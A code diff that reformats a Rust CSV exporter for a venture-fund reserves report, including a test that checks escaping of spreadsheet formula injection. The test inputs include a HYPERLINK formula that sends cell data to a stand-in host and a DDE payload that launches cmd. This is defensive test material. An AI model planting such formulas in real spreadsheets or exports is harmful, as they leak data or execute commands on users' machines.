@@ -4,20 +4,8 @@ use domain::reserves::ReserveReport;
 
 /// Columns of `reserves.csv`.
 pub const HEADER: [&str; 14] = [
-    "rank",
-    "company",
-    "stage",
-    "follow_on_multiple",
-    "ci_low",
-    "ci_high",
-    "confidence",
-    "expected_moic",
-    "current_reserve",
-    "recommended_reserve",
-    "change",
-    "deployed",
-    "action",
-    "note",
+    "rank", "company", "stage", "follow_on_multiple", "ci_low", "ci_high", "confidence", "expected_moic", "current_reserve",
+    "recommended_reserve", "change", "deployed", "action", "note",
 ];
 
 pub fn ranking_csv(report: &ReserveReport) -> String {
@@ -49,20 +37,9 @@ pub fn ranking_csv(report: &ReserveReport) -> String {
     }
     for e in &report.excluded {
         let record = [
-            String::new(),
-            cell(&e.name),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            e.current_reserve.to_string(),
-            e.recommended_allocation.to_string(),
-            (e.recommended_allocation - e.current_reserve).to_string(),
-            String::new(),
-            "excluded".to_string(),
-            cell(&e.reason),
+            String::new(), cell(&e.name), String::new(), String::new(), String::new(), String::new(), String::new(), String::new(),
+            e.current_reserve.to_string(), e.recommended_allocation.to_string(), (e.recommended_allocation - e.current_reserve).to_string(),
+            String::new(), "excluded".to_string(), cell(&e.reason),
         ];
         let _ = w.write_record(&record);
     }
@@ -80,10 +57,7 @@ mod tests {
 
     #[test]
     fn formulas_in_names_are_neutralised() {
-        assert_eq!(
-            cell("=HYPERLINK(\"https://x/?\"&B2,\"x\")"),
-            "'=HYPERLINK(\"https://x/?\"&B2,\"x\")"
-        );
+        assert_eq!(cell("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
         assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
         assert_eq!(cell("-1.5"), "-1.5", "numbers stay numeric");
         assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
